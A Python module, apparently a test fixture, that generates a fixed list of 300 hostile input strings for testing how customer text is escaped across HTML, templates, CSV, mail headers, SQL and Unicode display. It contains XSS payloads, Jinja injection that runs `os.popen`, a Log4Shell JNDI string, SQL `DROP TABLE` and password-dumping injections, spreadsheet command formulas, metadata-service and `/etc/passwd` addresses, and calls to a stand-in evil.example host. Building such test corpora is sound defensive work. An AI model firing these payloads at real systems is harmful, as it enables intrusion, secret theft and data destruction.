"""Three hundred texts that do harm where somebody takes them for more than words: (kind, text), always the same ones.

Each kind is aimed at one place that shows what customers wrote: pages (HTML, handlers, attributes, SVG, CSS, addresses,
Markdown), templates (Jinja), documents (Typst), sheets (CSV), mails (headers), the database (SQL), and people's eyes
(writing direction, characters that are not seen, marks upon marks). Addresses in them lead to ``EVIL``.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

EVIL = "evil.example"
HOW_MANY = 300
LONGEST = 100
"""None has more characters, so that each fits into nearly every column."""


@dataclass(frozen=True, slots=True)
class HostileText:
    """``number`` counts from 0 over all kinds."""

    number: int
    kind: str
    text: str


_RUN = "alert(1)"
_LOAD = f"https://{EVIL}/x"
_CASES = (str, str.upper, str.title)

_HTML = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_LOAD}.js></script>",
    f"<script src='//{EVIL}/x.js'></script >",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'<noscript><p title="</noscript><script>{_RUN}</script>">',
    f"<template><script>{_RUN}</script></template>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{_RUN}&lt;/script&gt;"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="{_LOAD}.swf">',
    f'<applet code="{_LOAD}"></applet>',
    f'<base href="https://{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={_LOAD}">',
    f"<link rel=stylesheet href={_LOAD}.css>",
    f'<form action="{_LOAD}"><input name=password><button>OK</button></form>',
    f'<input type=submit formaction="{_LOAD}" form=x>',
    "<plaintext>",
    "<!-- a comment without end",
    "<xmp><b>",
    f"<frameset onload={_RUN}>",
    f"<portal src={_LOAD}>",
    "<dialog open>Your session has ended. Sign in again.</dialog>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "<b>bold</b> and <i>slanted",
    "a < b > c && d",
)
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle")
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"` onmouseover=`{_RUN}",
    f"x onfocus={_RUN} autofocus=",
    f'" autofocus onfocus={_RUN} x="',
    f'" style="background:url({_LOAD})',
    f'" formaction="{_LOAD}',
    '" data-confirm="" hx-get="/staff/" x="',
    '" hidden="',
    '" class="d-none',
    '" id="main" name="csrf_token',
    '"/><!--',
    "'\"`<>&",
    "&quot; onclick=&quot;alert(1)",
    "&#34; onclick=&#34;alert(1)",
    '\\" onclick=\\"alert(1)',
    '"\n\tonclick\n=\n"alert(1)',
)
_SVG = (
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} /></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>X</text></a></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f'<svg><use href="{_LOAD}.svg#x"></svg>',
    f"<svg><image href={_LOAD}.png></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></foreignObject></svg>",
    f"<svg><style>@import '{_LOAD}.css'</style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<math href="javascript:{_RUN}">X</math>',
    f"<svg><desc><![CDATA[</desc><script>{_RUN}</script>]]></svg>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{_LOAD}.xsl'?><svg/>",
)
_CSS = (
    f"<style>@import url({_LOAD}.css);</style>",
    f"<style>*{{background:url({_LOAD})}}</style>",
    "<style>body{display:none}</style>",
    f'<div style="background-image:url(javascript:{_RUN})">',
    f'<div style="width:expression({_RUN})">',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">',
    f'<p style="behavior:url({_LOAD}.htc)">',
    "}</style><p>out of the style",
    f"url({_LOAD})",
    f"red;background:url({_LOAD})",
    "color:red}body{display:none",
    f"\\75rl({_LOAD})",
    "/*</style>*/",
    f"<style>@font-face{{font-family:x;src:url({_LOAD})}}</style>",
    "--x:{};@media all{*{color:transparent}}",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    f"//{EVIL}/x",
    f"///{EVIL}/x",
    f"/\\{EVIL}/x",
    f"\\\\{EVIL}\\share",
    f"https://localhost@{EVIL}/",
    f"https://{EVIL}%2f@localhost/",
    "http://169.254.169.254/latest/meta-data/",
    "ftp://evil.example/x",
    'tel:+1900555" onclick="alert(1)',
    "mailto:a@b.example?bcc=all@evil.example",
    "\u0001javascript:alert(1)",
)
_MARKDOWN = (
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt&colon;{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"[click](//{EVIL}/x)",
    f'[click](https://{EVIL}/" onmouseover="{_RUN})',
    f'[click](https://{EVIL} "x" onclick={_RUN})',
    f"![x]({_LOAD}.png)",
    f'![x](x" onerror="{_RUN})',
    f"[![x]({_LOAD}.png)](javascript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"<https://{EVIL}/<script>{_RUN}</script>>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"```html\n<script>{_RUN}</script>\n```",
    f'```"><script>{_RUN}</script>\nx\n```',
    f"`<img src=x onerror={_RUN}>`",
    f"> <script>{_RUN}</script>",
    f"# <svg onload={_RUN}>",
    f"- [ ] <input onfocus={_RUN} autofocus>",
    f"| a |\n|---|\n| <script>{_RUN}</script> |",
    f"**<b onclick={_RUN}>**",
)
_JINJA = (
    "{{ 7 * 7 }}",
    "{{7*'7'}}",
    "{% print(7 * 7) %}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__ }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'layout.html' %}",
    "{% endblock %}",
    "{# a comment without end",
    "{% raw %}",
    "{{ url_for('static', filename='x') }}",
    "{{ '<script>alert(1)</script>' | safe }}",
    "${7*7} #{7*7} <%= 7*7 %> ${{7*7}} @(7*7) *{7*7}",
    "{0.__class__.__init__.__globals__} %(secret)s %s %n",
    "${jndi:ldap://evil.example/x}",
)
_TYPST = (
    '#eval("1 + 1")',
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    '#import "@preview/example:0.1.0": *',
    '#image("/etc/passwd")',
    '#panic("stopped")',
    "#while true { }",
    "#let x = 1; #x",
    "#set page(width: 1pt)",
    "#show: it => []",
    "#pagebreak()",
    '#link("javascript:alert(1)")[click]',
    '#raw("x")',
    "#sys.version",
    "$ x^2 $",
    "$ unclosed",
    "\\",
    "\\u{1F600} \\#",
    "`code` ```block",
    "*bold* _slanted",
    "<label> @label",
    "] [ ) ( } {",
    "= Heading\n- item\n+ item\n/ term: x",
    "// a comment",
    "/* a comment without end",
)
_CSV = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{_LOAD}","click")',
    f'=WEBSERVICE("{_LOAD}")',
    f'=IMAGE("{_LOAD}")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    '";=1+1',
    'a,"b",=1+1',
    "a;b\n=1+1;c",
    '"""=1+1',
    "|cmd",
    "%1+1",
)
_HEADERS = (
    f"Hello\r\nBcc: all@{EVIL}",
    f"Hello\nBcc: all@{EVIL}",
    f"Hello\rBcc: all@{EVIL}",
    f"Hello\r\n\r\n<script>{_RUN}</script>",
    "Hello\r\nContent-Type: text/html",
    "Hello\r\n.\r\nMAIL FROM:<a@evil.example>",
    f"Hello%0d%0aBcc: all@{EVIL}",
    f"Hello\\r\\nBcc: all@{EVIL}",
    f"Hello\u2028Bcc: all@{EVIL}",
    f"Hello\u2029Bcc: all@{EVIL}",
    f"Hello\x85Bcc: all@{EVIL}",
    f"Hello\x0bBcc: all@{EVIL}",
    f"Hello\x0cBcc: all@{EVIL}",
    "=?utf-8?Q?=0D=0ABcc:_all=40evil.example?=",
    "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    f'"x" <all@{EVIL}>, y',
    "filename*=utf-8''evil.exe; filename=\"x",
    "Hello\r\nSet-Cookie: foyer=1",
)
_SQL = (
    "'; DROP TABLE account; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM person",
    "x' UNION SELECT password_hash FROM person --",
    "%' OR 1=1 --",
    "%_%_%",
    "\\'; --",
    "'||(SELECT 1)||'",
    "$$; SELECT 1; $$",
    ":name %(name)s ?",
    '"; PRAGMA writable_schema=1; --',
)
_DIRECTION = (
    "\u202ereversed gpj.exe",
    "\u202dleft\u202c and \u202eright\u202c",
    "\u2066isolated\u2069 \u2067\u0645\u2069",
    "\u2067without end",
    "\u200fright-to-left mark",
    "\u0645\u0631\u062d\u0628\u0627 <script>alert(1)</script>",
    "\u05e9\u05dc\u05d5\u05dd 12,345.00 \u05e9\u05dc\u05d5\u05dd",
    "invoice\u202efdp.exe",
    "\u061c\u200e\u200f\u202a\u202b\u202c",
    "\u2068\u2068\u2068\u2068\u2068nested",
)
_UNSEEN = (
    "zero\u200bwidth",
    "joined\u200dapart\u200cwords",
    "\ufeffbyte order mark",
    "soft\u00adhyphen",
    "\u2060word joiner",
    "\u3164",
    "\u2800",
    "\u00a0\u2007\u202f",
    "\U000e0041\U000e0042 tags",
    "variation\ufe0f selector\U000e0100",
)
_CONTROL = (
    "\u2400 for nothing",
    "%00",
    "\\0 \\x00 \\u0000",
    "&#0;&#x0;",
    "\ufffd",
    "bell\x07",
    "escape\x1b[31mred\x1b[0m",
    "back\x08\x08\x08space",
    "delete\x7f",
    "C1\x9b31m",
    "start\x01end\x04",
    "unit\x1fseparator\x1e",
    "\ufdd0 no character",
    "\uffff",
    "\U0010ffff",
)
_LONG = ("W" * 90, "<b>" * 30, "\u2192" * 90, "a " * 45 + "a", "((((((((((" * 9)
_MARKS = (
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1e9\U0001f1ea\U0001f3f4\U000e0067\U000e007f",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356a\u0357\u0358\u0359\u035a l\u0300\u0301\u0302\u0303\u0304 g\u0489\u0489\u0489",
    "e\u0301 \u00e9",
    "\u1100\u1161\u11a8 \uac01",
    "\ufb03 \u210c \u2460",
    "\u0e19\u0e49\u0e33\u0e19\u0e49\u0e33",
    "\U00020000\U0002a6d6",
    "\u02bc\u2019\u2018\uff07",
    "\u0130\u0131\u00df\u1e9e\u017f",
)

_BY_HAND = {
    "html": _HTML,
    "attribute": _ATTRIBUTES,
    "svg": _SVG,
    "css": _CSS,
    "address": _ADDRESSES,
    "markdown": _MARKDOWN,
    "jinja": _JINJA,
    "typst": _TYPST,
    "csv": _CSV,
    "header": _HEADERS,
    "sql": _SQL,
    "direction": _DIRECTION,
    "unseen": _UNSEEN,
    "control": _CONTROL,
    "long": _LONG,
    "marks": _MARKS,
}


def _handlers() -> Iterator[str]:
    """Elements that run a handler by themselves, in the ways people write them."""
    for tag in _TAGS:
        for number, handler in enumerate(_HANDLERS):
            yield f"<{_CASES[number % len(_CASES)](tag)} {handler}={_RUN}>"


@cache
def hostile_texts() -> tuple[HostileText, ...]:
    """All of them, in an order that does not change."""
    kinds = {"handler": tuple(_handlers()), **_BY_HAND}
    every = [(kind, text) for kind, texts in kinds.items() for text in texts]
    return tuple(HostileText(number, kind, text) for number, (kind, text) in enumerate(every))


def kinds() -> tuple[str, ...]:
    """The kinds, in the order of their first text."""
    return tuple(dict.fromkeys(each.kind for each in hostile_texts()))
